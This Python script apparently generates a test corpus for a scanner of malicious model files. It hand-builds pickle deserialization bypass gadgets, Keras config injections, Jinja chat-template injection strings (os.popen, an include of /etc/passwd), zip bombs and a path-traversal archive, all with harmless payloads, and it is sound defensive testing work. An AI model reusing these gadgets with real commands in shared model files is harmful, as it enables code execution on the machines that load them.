"""Generate the scanner corpus: malicious samples for published bypass techniques, in every
container, and benign samples written by the real libraries (torch, safetensors, numpy,
scikit-learn/joblib, gguf, onnx).

Payloads are harmless: the most they would do if someone loaded them is run ``true``, ``id``
or read a file that does not exist. Nothing here loads or executes them.

Usage: ``python tests/scan/make_corpus.py OUT_DIR`` writes the files and ``corpus.json``
(file -> malicious, technique, container).
"""

from __future__ import annotations

import bz2
import collections
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path


@dataclass
class Sample:
    file: str
    malicious: bool
    technique: str
    container: str
    source: str = ""


# ---------------------------------------------------------------- hand-built pickle opcodes
PROTO = b"\x80"
STOP = b"."
MARK = b"("
TUPLE = b"t"
REDUCE = b"R"
BUILD = b"b"
POP = b"0"
EMPTY_DICT = b"}"
EMPTY_TUPLE = b")"
NONE = b"N"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
SETITEM = b"s"
DICT = b"d"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s4(text: str) -> bytes:
    raw = text.encode()
    return (
        b"\x8c" + bytes([len(raw)]) + raw
        if len(raw) < 256
        else b"X" + struct.pack("<I", len(raw)) + raw
    )


def s2(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def sb(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def targs(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """``module.name(*args)`` as GLOBAL + REDUCE (the classic ``__reduce__`` payload)."""
    enc = s4 if proto >= 4 else s2
    return (
        PROTO + bytes([proto]) + glob(module, name) + targs(*(enc(a) for a in args)) + REDUCE + STOP
    )


def stack_global_call(module: str, name: str, *args: str) -> bytes:
    return (
        PROTO + b"\x04" + s4(module) + MEMOIZE + s4(name) + MEMOIZE + STACK_GLOBAL
        + targs(*(s4(a) for a in args)) + REDUCE + STOP
    )  # fmt: skip


def memo_confusion() -> bytes:
    """picklescan #14: mix BINPUT and MEMOIZE so a naive memo model sees torch._utils names."""
    return (
        PROTO + b"\x04"
        + s4("os") + b"q\x00" + s4("system") + b"q\x01"
        + s4("torch._utils") + MEMOIZE + s4("_rebuild_tensor_v2") + MEMOIZE
        + POP + POP + POP + POP
        + b"h\x00" + b"h\x01" + STACK_GLOBAL
        + targs(s4("true")) + REDUCE + STOP
    )  # fmt: skip


def memo_put_confusion() -> bytes:
    """modelscan #85 variant: PUT stores the stack top, not the preceding opcode's argument."""
    return (
        PROTO + b"\x04"
        + s4("os") + s4("collections") + b"p0\n" + POP + b"p1\n"  # memo0='collections', memo1='os'
        + POP
        + b"g1\n" + s4("system") + STACK_GLOBAL
        + targs(s4("true")) + REDUCE + STOP
    )  # fmt: skip


def computed_stack_global() -> bytes:
    """Module name produced at load time by an allowlisted call: ``str('os')``."""
    return (
        PROTO + b"\x04"
        + glob("builtins", "str") + targs(s4("os")) + REDUCE
        + s4("system") + STACK_GLOBAL + targs(s4("true")) + REDUCE + STOP
    )  # fmt: skip


def getattr_import_chain() -> bytes:
    """``getattr(importlib.import_module('os'), 'system')('true')``."""
    return (
        PROTO + b"\x02"
        + glob("builtins", "getattr")
        + MARK + glob("importlib", "import_module") + targs(s2("os")) + REDUCE
        + s2("system") + TUPLE
        + REDUCE + targs(s2("true")) + REDUCE + STOP
    )  # fmt: skip


def builtins_import_chain() -> bytes:
    """``getattr(__import__('os'), 'system')('true')`` in protocol 0 with Python 2 names."""
    return (
        glob("__builtin__", "getattr")
        + MARK + glob("__builtin__", "__import__") + MARK + b"S'os'\n" + TUPLE + REDUCE
        + b"S'system'\n" + TUPLE + REDUCE + MARK + b"S'true'\n" + TUPLE + REDUCE + STOP
    )  # fmt: skip


def inst_opcode() -> bytes:
    return MARK + b"S'true'\n" + b"ios\nsystem\n" + STOP


def obj_opcode() -> bytes:
    return (
        PROTO
        + b"\x02"
        + MARK
        + glob("subprocess", "check_output")
        + MARK
        + s2("true")
        + b"l"
        + b"o"
        + STOP
    )


def newobj_popen() -> bytes:
    return PROTO + b"\x02" + glob("subprocess", "Popen") + targs(s2("true")) + b"\x81" + STOP


def newobj_ex() -> bytes:
    return (
        PROTO + b"\x04" + glob("subprocess", "Popen") + targs(s4("true")) + EMPTY_DICT
        + b"\x92" + STOP
    )  # fmt: skip


def tensor_view(offset: int, size: int, numel: int = 2) -> bytes:
    """``torch._utils._rebuild_tensor_v2`` over a 2-element storage, as torch.save writes it."""
    storage = MARK + s2("storage") + glob("torch", "FloatStorage") + s2("0") + s2("cpu")
    storage += b"K" + bytes([numel]) + TUPLE + b"Q"
    return (
        PROTO + b"\x02" + glob("torch._utils", "_rebuild_tensor_v2")
        + MARK + storage + b"K" + bytes([offset]) + b"K" + bytes([size]) + b"\x85"
        + b"K\x01\x85" + b"\x89" + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + TUPLE + REDUCE + STOP
    )  # fmt: skip


def legacy_magic_eval() -> bytes:
    """Legacy torch file whose magic number is computed by eval, then a payload pickle."""
    magic = (
        PROTO
        + b"\x02"
        + glob("builtins", "eval")
        + targs(s2("0x1950A86A20F9469CFC6C"))
        + REDUCE
        + STOP
    )
    return (
        magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
        + pickle.dumps([], protocol=2) + call("posix", "system", "true")
    )  # fmt: skip


def payload_then(tail: bytes) -> bytes:
    """A payload that runs first, then a stream that breaks (memo KeyError, type confusion)."""
    return PROTO + b"\x04" + glob("os", "system") + targs(s4("true")) + REDUCE + POP + tail


def memo_put_get_junk() -> bytes:
    return (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
        + b"g2\ng3\n"
        + STACK_GLOBAL
        + MARK
        + b"Vtrue\n"
        + TUPLE
        + REDUCE
        + STOP
        + b"\n\n\t\t"
    )


def ext_code(op: bytes, width: int) -> bytes:
    return PROTO + b"\x02" + op + (7).to_bytes(width, "little") + targs(s2("true")) + REDUCE + STOP


def unicode_escape_names() -> bytes:
    """Protocol-0 UNICODE/STRING escapes decode to 'os'/'system' only at load time."""
    return (
        b"V\\u006f\\u0073\n" + b"S'sys\\x74em'\n" + STACK_GLOBAL
        + MARK + b"Vtrue\n" + TUPLE + REDUCE + STOP
    )  # fmt: skip


def build_setattr_global() -> bytes:
    """modelscan #85: BUILD writes attributes onto numpy.prod, then dotted GLOBALs read them."""
    return (
        PROTO + b"\x04"
        + glob("numpy", "prod") + NONE + MARK + s4("a") + s4("os") + DICT + b"\x86" + BUILD
        + NONE + MARK + s4("b") + s4("system") + DICT + b"\x86" + BUILD + POP
        + glob("numpy", "prod.a") + b"p0\n" + glob("numpy", "prod.b") + b"p1\n" + POP + POP
        + b"g0\n" + b"g1\n" + STACK_GLOBAL + targs(s4("true")) + REDUCE + STOP
    )  # fmt: skip


def setstate_injection() -> bytes:
    """Give an allowlisted OrderedDict a ``__setstate__`` attribute, then BUILD calls it."""
    return (
        PROTO + b"\x04"
        + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + EMPTY_DICT + s4("__setstate__") + s4("posix") + s4("system") + STACK_GLOBAL + SETITEM
        + BUILD + s4("true") + BUILD + STOP
    )  # fmt: skip


def nested_pickle_loads() -> bytes:
    inner = call("os", "system", "true")
    return PROTO + b"\x03" + glob("_pickle", "loads") + targs(sb(inner)) + REDUCE + STOP


def torch_load_from_bytes() -> bytes:
    inner = call("os", "system", "true")
    return (
        PROTO
        + b"\x03"
        + glob("torch.storage", "_load_from_bytes")
        + targs(sb(inner))
        + REDUCE
        + STOP
    )


def truncated_after_payload() -> bytes:
    """Exception-oriented: the payload runs, then the stream breaks (no STOP)."""
    return call("os", "system", "true")[:-1] + b"\xff\xff garbage"


def functools_partial() -> bytes:
    return (
        PROTO + b"\x02" + glob("functools", "partial")
        + MARK + glob("posix", "system") + s2("true") + TUPLE + REDUCE
        + EMPTY_TUPLE + REDUCE + STOP
    )  # fmt: skip


def attrgetter_gadget() -> bytes:
    """``operator.attrgetter('system')(importlib.import_module('os'))('true')``."""
    return (
        PROTO + b"\x02"
        + glob("_operator", "attrgetter") + targs(s2("system")) + REDUCE
        + MARK + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
        + targs(s2("true")) + REDUCE + STOP
    )  # fmt: skip


def methodcaller_gadget() -> bytes:
    return (
        PROTO + b"\x02" + glob("operator", "methodcaller") + targs(s2("system"), s2("true"))
        + REDUCE + STOP
    )  # fmt: skip


def dunder_global() -> bytes:
    return PROTO + b"\x04" + glob("collections", "OrderedDict.__init__.__globals__") + STOP


# (technique, pickle bytes) written as single raw pickles; each is a published bypass/gadget.
def technique_pickles() -> list[tuple[str, bytes]]:
    t: list[tuple[str, bytes]] = [
        ("reduce-os-system-p0", glob("os", "system") + MARK + b"S'true'\n" + TUPLE + REDUCE + STOP),
        ("reduce-os-system-p2", call("os", "system", "true")),
        ("reduce-posix-system-p4", call("posix", "system", "true", proto=4)),
        ("reduce-nt-system", call("nt", "system", "true")),
        (
            "reduce-builtin-eval-py2-name",
            glob("__builtin__", "eval") + MARK + b"S'1+1'\n" + TUPLE + REDUCE + STOP,
        ),
        ("reduce-builtins-exec", call("builtins", "exec", "pass", proto=4)),
        ("reduce-builtins-compile", call("builtins", "compile", "1", "<s>", "eval")),
        ("reduce-builtins-open", call("builtins", "open", "/nonexistent-glassbox")),
        ("reduce-subprocess-run", call("subprocess", "run", "true")),
        ("reduce-subprocess-check-output", call("subprocess", "check_output", "true")),
        ("reduce-posixsubprocess", call("_posixsubprocess", "fork_exec", "true")),
        ("reduce-pty-spawn", call("pty", "spawn", "true")),
        ("reduce-importlib-import-module", call("importlib", "import_module", "this")),
        ("reduce-pkgutil-resolve-name", call("pkgutil", "resolve_name", "os:system")),
        ("reduce-pydoc-locate", call("pydoc", "locate", "os.system")),
        ("reduce-pydoc-pipepager", call("pydoc", "pipepager", "x", "true")),
        ("reduce-runpy-run-path", call("runpy", "run_path", "/nonexistent-glassbox")),
        ("reduce-code-interact", call("code", "InteractiveInterpreter")),
        ("reduce-pdb-run", call("pdb", "run", "pass")),
        ("reduce-bdb", call("bdb", "Bdb")),
        ("reduce-timeit", call("timeit", "timeit", "pass")),
        ("reduce-cprofile-run", call("cProfile", "run", "pass")),
        ("reduce-profile-run", call("profile", "run", "pass")),
        ("reduce-trace", call("trace", "Trace")),
        ("reduce-doctest-debug-script", call("doctest", "debug_script", "pass")),
        ("reduce-idlelib", call("idlelib.pyshell", "main")),
        ("reduce-lib2to3", call("lib2to3.pgen2.grammar", "Grammar")),
        (
            "reduce-distutils-write-file",
            call("distutils.file_util", "write_file", "/nonexistent-glassbox", "x"),
        ),
        ("reduce-setuptools", call("setuptools.sandbox", "run_setup", "/nonexistent-glassbox")),
        ("reduce-pip-main", call("pip", "main", "--version")),
        ("reduce-ensurepip", call("ensurepip", "_run_pip", "--version")),
        ("reduce-venv-create", call("venv", "create", "/nonexistent-glassbox")),
        ("reduce-shutil-rmtree", call("shutil", "rmtree", "/nonexistent-glassbox")),
        ("reduce-io-fileio", call("_io", "FileIO", "/nonexistent-glassbox", "w")),
        ("reduce-socket", call("socket", "create_connection", "127.0.0.1")),
        ("reduce-urllib-urlopen", call("urllib.request", "urlopen", "http://127.0.0.1:9/")),
        ("reduce-requests-get", call("requests", "get", "http://127.0.0.1:9/")),
        ("reduce-httpx-get", call("httpx", "get", "http://127.0.0.1:9/")),
        ("reduce-aiohttp", call("aiohttp", "request", "GET", "http://127.0.0.1:9/")),
        ("reduce-webbrowser", call("webbrowser", "open", "http://127.0.0.1:9/")),
        ("reduce-ctypes-cdll", call("ctypes", "CDLL", "libc.so.6")),
        ("reduce-marshal-loads", call("marshal", "loads", "x")),
        ("reduce-types-codetype", call("types", "CodeType", "x")),
        ("reduce-uuid-get-command-stdout", call("uuid", "_get_command_stdout", "true")),
        ("reduce-mailcap-findmatch", call("mailcap", "findmatch", "x")),
        ("reduce-asyncio-subprocess", call("asyncio.subprocess", "create_subprocess_exec", "true")),
        (
            "reduce-asyncio-unix-events",
            call("asyncio.unix_events", "_UnixSubprocessTransport", "true"),
        ),
        ("reduce-multiprocessing-util", call("multiprocessing.util", "spawnv_passfds", "true")),
        ("reduce-imaplib-stream", call("imaplib", "IMAP4_stream", "true")),
        ("reduce-logging-config-listen", call("logging.config", "listen")),
        ("reduce-torch-hub-load", call("torch.hub", "load", "127.0.0.1/x", "m")),
        ("reduce-torch-load", call("torch", "load", "/nonexistent-glassbox")),
        ("reduce-torch-jit-load", call("torch.jit", "load", "/nonexistent-glassbox")),
        ("reduce-torch-dynamo-guards", call("torch._dynamo.guards", "GuardBuilder")),
        (
            "reduce-torch-bottleneck",
            call("torch.utils.bottleneck.__main__", "run_cprofile", "pass"),
        ),
        (
            "reduce-torch-fx-symbolic-shapes",
            call("torch.fx.experimental.symbolic_shapes", "ShapeEnv"),
        ),
        ("reduce-torch-cpp-extension", call("torch.utils.cpp_extension", "load_inline", "x", "")),
        ("reduce-numpy-load", call("numpy", "load", "/nonexistent-glassbox")),
        ("reduce-numpy-lib-npyio", call("numpy.lib.npyio", "load", "/nonexistent-glassbox")),
        (
            "reduce-numpy-testing-runstring",
            call("numpy.testing._private.utils", "runstring", "pass"),
        ),
        ("reduce-numpy-f2py-getlincoef", call("numpy.f2py.crackfortran", "getlincoef", "1", "{}")),
        (
            "reduce-numpy-f2py-eval-length",
            call("numpy.f2py.crackfortran", "_eval_length", "1", "{}"),
        ),
        ("reduce-pandas-read-pickle", call("pandas", "read_pickle", "/nonexistent-glassbox")),
        ("reduce-joblib-load", call("joblib", "load", "/nonexistent-glassbox")),
        ("reduce-dill-loads", call("dill", "loads", "x")),
        ("reduce-keras-get-file", call("keras.utils", "get_file", "x", "http://127.0.0.1:9/")),
        ("reduce-unlisted-stdlib-pstats", call("pstats", "Stats", "/nonexistent-glassbox")),
        ("reduce-unlisted-module", call("glassbox_corpus_payload", "run", "true")),
        ("reduce-main-class", call("__main__", "Exploit")),
        ("stack-global-memoized", stack_global_call("os", "system", "true")),
        ("memo-binput-memoize-confusion", memo_confusion()),
        ("memo-put-confusion", memo_put_confusion()),
        ("stack-global-computed-name", computed_stack_global()),
        ("getattr-import-module-chain", getattr_import_chain()),
        ("getattr-import-chain-p0", builtins_import_chain()),
        ("inst-opcode", inst_opcode()),
        ("obj-opcode", obj_opcode()),
        ("newobj-popen", newobj_popen()),
        ("newobj-ex-popen", newobj_ex()),
        ("ext1-code", ext_code(b"\x82", 1)),
        ("ext2-code", ext_code(b"\x83", 2)),
        ("ext4-code", ext_code(b"\x84", 4)),
        ("unicode-escaped-names", unicode_escape_names()),
        ("build-setattr-on-global", build_setattr_global()),
        ("build-setstate-injection", setstate_injection()),
        ("nested-pickle-loads", nested_pickle_loads()),
        ("torch-load-from-bytes", torch_load_from_bytes()),
        ("truncated-after-payload", truncated_after_payload()),
        ("truncated-after-payload-p0", inst_opcode()[:-1] + b"\x00garbage"),
        ("functools-partial", functools_partial()),
        ("operator-attrgetter", attrgetter_gadget()),
        ("operator-methodcaller", methodcaller_gadget()),
        ("dunder-globals-dotted-name", dunder_global()),
        ("legacy-torch-magic-number-eval", legacy_magic_eval()),
        ("payload-then-memo-keyerror", payload_then(b"\x8c\x02os\x94h\x03h\x00\x93K\x42.")),
        (
            "payload-then-type-confusion",
            payload_then(b"J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93."),
        ),
        (
            "stack-global-type-confusion",
            PROTO + b"\x04J\x2a\x00\x00\x00\x8c\x02os\x93" + targs() + REDUCE + STOP,
        ),
        ("memo-put-get-trailing-junk", memo_put_get_junk()),
        (
            "reduce-logging-filehandler",
            call("logging", "FileHandler", "/nonexistent-glassbox/x.log"),
        ),
        ("reduce-osx-support", call("_osx_support", "_read_output", "true")),
        ("reduce-aix-support", call("_aix_support", "_read_cmd_output", "true")),
        ("reduce-pyrepl-pager", call("_pyrepl.pager", "pipe_pager", "x", "true")),
        (
            "reduce-test-script-helper",
            call("test.support.script_helper", "assert_python_ok", "-c", "pass"),
        ),
        ("reduce-torch-collect-env", call("torch.utils.collect_env", "run", "true")),
        (
            "reduce-torch-config-module",
            call("torch.utils._config_module", "ConfigModule.load_config", "x"),
        ),
        (
            "reduce-torch-jit-execwrapper",
            call("torch.jit.unsupported_tensor_ops", "execWrapper", "pass"),
        ),
        (
            "reduce-torch-datapipes-decoder",
            call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", "x"),
        ),
        ("reduce-trace-runctx-dotted", call("trace", "Trace.runctx", "pass", proto=4)),
        ("reduce-profile-runctx-dotted", call("profile", "Profile.runctx", "pass", proto=4)),
        (
            "reduce-code-runcode-dotted",
            call("code", "InteractiveInterpreter.runcode", "pass", proto=4),
        ),
        (
            "reduce-idlelib-executive-dotted",
            call("idlelib.run", "Executive.runcode", "pass", proto=4),
        ),
        (
            "reduce-lib2to3-make-label-dotted",
            call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "x", proto=4),
        ),
        (
            "reduce-cloudpickle-make-function",
            call("cloudpickle.cloudpickle", "_make_function", "x"),
        ),
        ("reduce-sys-exit", call("sys", "exit", "1")),
        ("reduce-httplib", call("httplib", "HTTPSConnection", "127.0.0.1")),
        ("reduce-requests-api-get", call("requests.api", "get", "http://127.0.0.1:9/")),
        (
            "reduce-ssl-get-server-certificate",
            call("ssl", "get_server_certificate", "glassbox.invalid"),
        ),
        ("reduce-scanner-tampering", call("picklescan.scanner", "scan_file_path", "x")),
    ]
    return t


# ---------------------------------------------------------------- containers
def torch_zip(
    payload: bytes, *, data_name: str = "archive/data.pkl", extra: dict[str, bytes] | None = None
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(data_name, payload)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/data/0", b"\x00" * 8)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def plain_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_torch_tar(second_storage: bytes | None = None) -> bytes:
    """The pre-0.4 ``torch.save`` tar layout: pickles interleaved with raw storage bytes.
    ``second_storage`` replaces the second storage's header pickle (torch unpickles it)."""
    entry = PROTO + b"\x02" + targs(s2("0"), s2("cpu"), glob("torch", "FloatStorage")) + STOP
    raw = struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0)
    count = 1 if second_storage is None else 2
    storages = pickle.dumps(count, protocol=2) + entry + raw
    if second_storage is not None:
        storages += second_storage + raw
    storages += pickle.dumps([], protocol=2)
    main = (
        PROTO + b"\x02" + EMPTY_DICT + s2("w")
        + MARK + s2("storage") + glob("torch", "FloatStorage") + s2("0") + s2("cpu") + b"K\x02"
        + NONE + TUPLE + b"Q" + SETITEM + STOP
    )  # fmt: skip
    tensors = pickle.dumps(0, protocol=2)
    return tar_of(
        {
            "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
            "pickle": main,
            "storages": storages,
            "tensors": tensors,
        }
    )


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return (
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload
    )


def benign_pickle() -> bytes:
    return pickle.dumps(collections.OrderedDict(weight=[1.0, 2.0], bias=[0.5]), protocol=2)


CONTAINERS: dict[str, Callable[[bytes], tuple[str, bytes]]] = {
    "raw": lambda p: ("pkl", p),
    "raw-renamed": lambda p: ("txt", p),
    "torch-zip": lambda p: ("pt", torch_zip(p)),
    "zip-odd-member-name": lambda p: (
        "bin",
        torch_zip(benign_pickle(), extra={"archive/data/weights.dat": p}),
    ),
    "zip-deflated": lambda p: ("zip", plain_zip({"model/state": p})),
    "zip-in-zip": lambda p: ("zip", plain_zip({"inner.zip": plain_zip({"data.pkl": p})})),
    "tar": lambda p: ("tar", tar_of({"sys_info": benign_pickle(), "pickle": p})),
    "tar-gz": lambda p: ("tgz", gzip.compress(tar_of({"model/pickle": p}))),
    "gzip": lambda p: ("pkl.gz", gzip.compress(p)),
    "bz2": lambda p: ("pkl.bz2", bz2.compress(p)),
    "xz": lambda p: ("pkl.xz", lzma.compress(p)),
    "npy-object-array": lambda p: ("npy", npy_object(p)),
    "npz": lambda p: ("npz", plain_zip({"arr_0.npy": npy_object(p)})),
    "concatenated-second": lambda p: ("pkl", benign_pickle() + benign_pickle() + p),
    # joblib.load unpickles plain pickles and zlib-compressed ones (compress=True) alike.
    "joblib": lambda p: ("joblib", p),
    "joblib-zlib": lambda p: ("joblib", zlib.compress(p)),
}

MATRIX_TECHNIQUES = [
    "reduce-os-system-p2",
    "stack-global-memoized",
    "inst-opcode",
    "getattr-import-module-chain",
    "reduce-unlisted-module",
    "memo-binput-memoize-confusion",
]


# ---------------------------------------------------------------- zip tricks
def zip_mismatched_local_name(payload: bytes) -> bytes:
    data = bytearray(torch_zip(payload, data_name="archive/data.pkl"))
    idx = data.find(b"archive/data.pkl")  # first occurrence: the local header
    data[idx : idx + len("archive/data.pkl")] = b"archive/data.txt"
    return bytes(data)


def zip_bad_crc(payload: bytes) -> bytes:
    data = bytearray(torch_zip(payload))
    # CRC of the first member lives at offset 14 of the local header and in the central entry.
    data[14:18] = b"\xde\xad\xbe\xef"
    cd = data.rfind(b"PK\x01\x02archive/data.pkl"[:4])
    first_cd = data.find(b"PK\x01\x02")
    if first_cd >= 0 and cd >= 0:
        data[first_cd + 16 : first_cd + 20] = b"\xde\xad\xbe\xef"
    return bytes(data)


def zip_encrypted_flag(payload: bytes) -> bytes:
    data = bytearray(torch_zip(payload))
    data[6] |= 0x01
    first_cd = data.find(b"PK\x01\x02")
    data[first_cd + 8] |= 0x01
    return bytes(data)


def zip_traversal(payload: bytes) -> bytes:
    return plain_zip({"../../evil.pkl": payload})


def zip_duplicate_names(payload: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", benign_pickle())
        with __import__("warnings").catch_warnings():
            __import__("warnings").simplefilter("ignore")
            z.writestr("archive/data.pkl", payload)
    return buf.getvalue()


def zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("archive/data.pkl", b"\x00" * (64 << 20))
    return buf.getvalue()


def deep_nesting(payload: bytes, depth: int = 12) -> bytes:
    data = payload
    for i in range(depth):
        data = plain_zip({f"level{i}.zip" if i else "data.pkl": data})
    return data


def gzip_bomb() -> bytes:
    return gzip.compress(b"\x00" * (64 << 20), compresslevel=9)


# ---------------------------------------------------------------- non-pickle formats
def keras_zip(config: dict[str, object]) -> bytes:
    return plain_zip(
        {
            "metadata.json": json.dumps(
                {"keras_version": "3.3.3", "date_saved": "2026-01-01"}
            ).encode(),
            "config.json": json.dumps(config).encode(),
        }
    )


def keras_dense_config() -> dict[str, object]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "m",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"},
                    "registered_name": None,
                },
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {
                        "name": "dense",
                        "units": 2,
                        "activation": "relu",
                        "dtype": {
                            "module": "keras",
                            "class_name": "DTypePolicy",
                            "config": {"name": "float32"},
                            "registered_name": None,
                        },
                        "kernel_initializer": {
                            "module": "keras.initializers",
                            "class_name": "GlorotUniform",
                            "config": {"seed": None},
                            "registered_name": None,
                        },
                    },
                    "registered_name": None,
                },
            ],
        },
        "registered_name": "Functional",
    }


def keras_lambda_config() -> dict[str, object]:
    cfg = keras_dense_config()
    layers = cfg["config"]["layers"]  # type: ignore[index]
    layers.append(  # type: ignore[union-attr]
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "lambda",
                "function": {
                    "class_name": "__lambda__",
                    "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAKQFO"},
                },
            },
            "registered_name": None,
        }
    )
    return cfg


def keras_module_injection() -> dict[str, object]:
    """CVE-2025-1550 style: config names an arbitrary module/function for Keras to import."""
    cfg = keras_dense_config()
    layers = cfg["config"]["layers"]  # type: ignore[index]
    layers.append(  # type: ignore[union-attr]
        {
            "module": "subprocess",
            "class_name": "check_output",
            "config": {"args": ["true"]},
            "registered_name": None,
        }
    )
    return cfg


def keras_get_file_gadget() -> dict[str, object]:
    cfg = keras_dense_config()
    layers = cfg["config"]["layers"]  # type: ignore[index]
    layers.append(  # type: ignore[union-attr]
        {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"origin": "http://127.0.0.1:9/x"},
            "registered_name": "get_file",
        }
    )
    return cfg


def keras_h5(config: dict[str, object], tmp: Path) -> bytes | None:
    """A Keras 2 style HDF5 model (config in the ``model_config`` attribute); None without h5py."""
    try:
        import h5py
    except ImportError:
        return None
    path = tmp / "_model.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.create_dataset("model_weights/dense/kernel", data=[[1.0, 2.0]])
    data = path.read_bytes()
    path.unlink()
    return data


def keras_layer_config(layer: dict[str, object]) -> dict[str, object]:
    cfg = keras_dense_config()
    cfg["config"]["layers"].append(layer)  # type: ignore[index]
    return cfg


KERAS_PATH_LAYERS = {
    "keras-tfsmlayer": {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "sm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
        "registered_name": None,
    },
    "keras-stringlookup-file": {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": "/etc/passwd"},
        "registered_name": None,
    },
}


def keras2_lambda_json() -> dict[str, object]:
    return {
        "class_name": "Sequential",
        "keras_version": "2.15.0",
        "config": {
            "name": "seq",
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAKQFO", None, None],
                        "function_type": "lambda",
                    },
                }
            ],
        },
    }


BENIGN_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'system' %}"
    "{{ '<|im_start|>system\\n' + message['content'] + '<|im_end|>\\n' }}"
    "{% else %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + "
    "'<|im_end|>\\n' }}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)
ZEPHYR_TEMPLATE = (
    "{% set ns = namespace(system='') %}{% for message in messages %}"
    "{% if message.role == 'system' %}{% set ns.system = message.content %}{% endif %}"
    "{% if message['role'] not in ['user', 'assistant', 'system'] %}"
    "{{ raise_exception('Unknown role: ' ~ message['role']) }}{% endif %}"
    "{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"
)
EVIL_TEMPLATES = {
    "jinja-subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-cycler-globals": "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "jinja-lipsum-globals": "{{ lipsum.__globals__['os'].popen('id') }}",
    "jinja-attr-escaped": (
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}"
    ),
    "jinja-joined-underscores": "{% set u = '_' ~ '_' %}{{ (messages|attr(u ~ 'class' ~ u)) }}",
    "jinja-format-map": "{{ '{0.__class__}'.format_map(messages) }}",
    "jinja-self-context": "{{ self._TemplateReference__context.keys() }}",
    "jinja-include": "{% include '/etc/passwd' %}",
    "jinja-sliced-underscore": "{% set u = 'a_b'[1] %}{{ messages[u ~ u ~ 'class' ~ u ~ u] }}",
}


def gguf_duplicate_key(tmp: Path) -> bytes:
    """Two values for one metadata key: which one a reader uses depends on the reader."""
    import gguf

    path = tmp / "_dup.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_string("tokenizer.chat_templatX", "{{ cycler.__init__.__globals__.os.popen('id') }}")
    w.add_chat_template(BENIGN_TEMPLATE)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
